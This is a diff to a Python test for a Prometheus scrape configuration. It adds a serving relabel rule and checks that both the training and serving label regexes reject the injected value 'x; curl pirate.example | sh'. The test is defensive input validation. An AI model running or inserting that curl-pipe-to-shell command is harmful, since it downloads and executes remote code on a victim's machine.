@@ -285,12 +285,16 @@ def test_a_node_takes_no_alert_of_another_one_away(machine: Machine) -> None:
         assert scraped["sample_limit"] and scraped["body_size_limit"] and scraped["label_limit"]
         dropped = [one["regex"] for one in scraped["metric_relabel_configs"] if one["action"] == "labeldrop"]
         assert all(re.fullmatch(dropped[0], label) for label in ("severity", "gaudi_action", "alertname"))
-    named, training, _labels = machine.document("prometheus.yml")["scrape_configs"][0]["metric_relabel_configs"]
+    named, training, serving, _labels = machine.document("prometheus.yml")["scrape_configs"][0][
+        "metric_relabel_configs"
+    ]
     for name in ("up", "ALERTS", "ALERTS_FOR_STATE", "training:gaudi_job_tokens_per_second:avg10m", "scrape_x"):
         assert re.fullmatch(named["regex"], name)
     assert not re.fullmatch(named["regex"], "gaudi_port_up")
     assert all(re.fullmatch(training["regex"], name) for name in ("", "llama-3.1_8B"))
-    assert not re.fullmatch(training["regex"], "x; curl pirate.example | sh")
+    assert all(re.fullmatch(serving["regex"], name) for name in ("", "chat-2"))
+    for told in (training, serving):
+        assert not re.fullmatch(told["regex"], "x; curl pirate.example | sh")
 
 
 def test_an_alert_is_taken_from_prometheus_alone(machine: Machine) -> None:
